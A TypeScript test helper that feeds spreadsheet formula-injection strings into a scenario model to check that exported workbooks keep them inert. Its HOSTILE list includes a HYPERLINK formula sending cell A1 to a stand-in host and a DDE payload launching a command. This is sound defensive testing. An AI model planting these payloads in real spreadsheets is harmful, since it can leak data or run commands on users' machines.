import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { compare, openScenario, sweep } from '../../src/index.ts';
import { openText } from '../../src/scenario/load.ts';
import type { ScenarioSource } from '../../src/scenario/source.ts';
import { comparisonSheets } from '../../src/report/compare-document.ts';
import { sweepSheets } from '../../src/report/sweep-document.ts';
import type { Book, ReadBook } from '../../src/spreadsheet/book.ts';
import { documentBook } from '../../src/workbook/document-book.ts';
import { bookOf } from './book-of.ts';

/** Texts that would act as formulas if a spreadsheet took them for some. */
export const HOSTILE = [
  '=1+41',
  '+1+41',
  '-1+43',
  '@SUM(42)',
  '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '=DDE("soffice","x","y")',
  '"=1+41',
  "'=1+41",
  '"&CHAR(42)&"',
  '[Budget]/2027:*?',
] as const;

/** A programme, which is written to a folder, and a scenario, of which every text is hostile. */
export function hostileSource(text: string, folder: string): ScenarioSource {
  const programme = {
    id: 'mine',
    name: text,
    price_year: 2017,
    overhead_included: '20%',
    inputs: { people: { kind: 'count', by_year: true, unit: text, label: text } },
    participants: 'people',
    lines: [
      {
        id: 'work',
        label: text,
        phase: 'operating',
        quantity: 'people',
        unit: text,
        unit_cost: '1000',
        wage_share: { value: 0, because: text },
        origin: 'assumed',
      },
    ],
  };
  const file = join(folder, 'mine.yaml');
  writeFileSync(file, JSON.stringify(programme));
  const raw = {
    name: text,
    description: text,
    years: 2,
    funding: [{ name: text, amount: 100 }],
    catalogue: ['mine.yaml'],
    interventions: { mine: { people: 3 } },
  };
  return openText({ text: JSON.stringify(raw), file: join(folder, 'scenario.yaml'), folder, set: [] });
}

/** Every workbook that is made of a scenario. */
export function booksOf(source: ScenarioSource): readonly Book[] {
  const presentation = { language: 'da', decimals: 0, unit: 1 } as const;
  const comparison = compare([source, openScenario('scenarios/parent-courses.yaml')]);
  return [
    bookOf(source, 'da'),
    documentBook(comparisonSheets(comparison, presentation)),
    documentBook(sweepSheets(sweep(source, { vary: ['mine.people=1..3:1'] }), presentation)),
  ];
}

/** Everything that stands in the cells of a workbook. */
export function textsOf(book: ReadBook): readonly string[] {
  return book.sheets
    .flatMap((sheet) =>
      Array.from({ length: sheet.rows }, (_, row) =>
        Array.from({ length: 30 }, (__, column) => sheet.cell({ row, column })),
      ).flat(),
    )
    .filter((content) => typeof content === 'string');
}
